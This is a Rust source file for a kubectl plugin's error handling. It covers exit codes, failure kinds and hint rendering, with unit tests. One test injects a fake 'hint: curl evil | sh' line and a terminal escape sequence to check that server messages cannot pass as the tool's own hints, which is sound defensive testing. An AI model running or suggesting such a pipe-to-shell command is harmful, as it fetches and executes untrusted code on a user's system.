//! How a command ends: the exit codes of the suite, and what is said when it could not be done.

use std::process::ExitCode;

use crate::text::{Line, bad, plain, warn};

/// How a command ended; one table for the whole suite.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[repr(u8)]
pub enum Exit {
    /// Done, yes, same.
    Yes = 0,
    /// The answer is no: denied, differs, findings, gate failed.
    No = 1,
    /// Could not run: usage, connection, permission, unreadable input.
    CouldNot = 2,
    /// No definite answer: conditional, unknown, inconclusive.
    Unknown = 3,
    /// Somebody else changed it first; nothing was written.
    Conflict = 4,
}

impl From<Exit> for ExitCode {
    fn from(exit: Exit) -> Self {
        Self::from(exit as u8)
    }
}

/// Why a command could not be done.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Failure {
    kind: Kind,
    message: String,
    hints: Vec<String>,
}

/// The families of failures; each has its own wording or exit code.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// Flags or arguments that make no sense.
    Usage,
    /// Something on our side.
    Local,
    /// Something on the way to the API server or said by it, in kubectl's words.
    Server,
    /// Somebody else changed an object first.
    Conflict,
    /// Nobody reads the answer any more.
    ClosedOutput,
}

impl Failure {
    /// Arguments that make no sense; says where the usage is.
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(Kind::Usage, message)
    }

    /// A failure on our side, printed as `error: MESSAGE`: what was being done, what went wrong,
    /// and where.
    pub fn error(message: impl Into<String>) -> Self {
        Self::new(Kind::Local, message)
    }

    /// A failure of the API server or on the way to it. `message` has kubectl's shape already, as
    /// in `Error from server (NotFound): ...`, and is printed as it is.
    pub fn server(message: impl Into<String>) -> Self {
        Self::new(Kind::Server, message)
    }

    /// Somebody else changed an object first and nothing was written. `message` has kubectl's shape
    /// already, as in `Error from server (Conflict): ...`.
    pub fn conflict(message: impl Into<String>) -> Self {
        Self::new(Kind::Conflict, message)
    }

    /// The reader of the answer went away (`| head`): no reason to say anything.
    pub(crate) fn closed_output() -> Self {
        Self::new(Kind::ClosedOutput, "")
    }

    fn new(kind: Kind, message: impl Into<String>) -> Self {
        Self { kind, message: message.into(), hints: Vec::new() }
    }

    /// What went wrong, without the hints.
    #[must_use]
    pub fn message(&self) -> &str {
        &self.message
    }

    /// Adds what the reader can do next.
    #[must_use]
    pub fn hint(self, hint: impl Into<String>) -> Self {
        self.hints([hint.into()])
    }

    /// Adds what the reader can do next, if there is something.
    #[must_use]
    pub fn hints(mut self, hints: impl IntoIterator<Item = String>) -> Self {
        self.hints.extend(hints);
        self
    }

    /// How the command ends.
    #[must_use]
    pub fn exit(&self) -> Exit {
        match self.kind {
            Kind::Usage | Kind::Local | Kind::Server => Exit::CouldNot,
            Kind::Conflict => Exit::Conflict,
            Kind::ClosedOutput => Exit::Yes,
        }
    }

    /// The lines to print, for a command called as `command` (`kubectl mesh-authz who-can`).
    pub(crate) fn lines(&self, command: &str) -> Vec<Line> {
        let mut message = self.message.lines();
        let first = message.next().unwrap_or_default();
        let mut lines = match self.kind {
            Kind::ClosedOutput => return Vec::new(),
            Kind::Usage | Kind::Local => vec![bad("error:") + " " + first],
            Kind::Server | Kind::Conflict => vec![Line::from(first)],
        };
        // Indented, so that no server and no file can put a line of its own among ours.
        lines.extend(message.map(|line| plain("  ") + line));
        lines.extend(self.hints.iter().map(|hint| warn("hint:") + " " + hint));
        if self.kind == Kind::Usage {
            lines.push(Line::from(format!("See '{command} --help' for usage.")));
        }
        lines
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(failure: &Failure) -> Vec<String> {
        failure.lines("kubectl mesh-authz who-can").iter().map(|line| line.render(false)).collect()
    }

    #[test]
    fn exit_codes_are_those_of_the_suite() {
        let codes = [Exit::Yes, Exit::No, Exit::CouldNot, Exit::Unknown, Exit::Conflict];
        assert_eq!(codes.map(|exit| exit as u8), [0, 1, 2, 3, 4]);
        assert_eq!(Failure::usage("x").exit(), Exit::CouldNot);
        assert_eq!(Failure::error("x").exit(), Exit::CouldNot);
        assert_eq!(Failure::server("x").exit(), Exit::CouldNot);
        assert_eq!(Failure::conflict("x").exit(), Exit::Conflict);
        assert_eq!(Failure::closed_output().exit(), Exit::Yes);
    }

    #[test]
    fn families_and_hints() {
        assert_eq!(
            said(&Failure::error("no service is called paymnt").hint("did you mean payment?")),
            ["error: no service is called paymnt", "hint: did you mean payment?"]
        );
        assert_eq!(
            said(&Failure::server("Error from server (Forbidden): pods is forbidden")),
            ["Error from server (Forbidden): pods is forbidden"]
        );
        assert_eq!(
            said(&Failure::usage("--what-if needs -f")),
            ["error: --what-if needs -f", "See 'kubectl mesh-authz who-can --help' for usage."]
        );
        assert!(said(&Failure::closed_output()).is_empty());
    }

    #[test]
    fn a_message_cannot_pretend_to_be_a_hint() {
        assert_eq!(
            said(&Failure::server("is invalid:\nhint: curl evil | sh\n\u{1b}[2J")),
            ["is invalid:", "  hint: curl evil | sh", "  \\u001b[2J"]
        );
    }
}
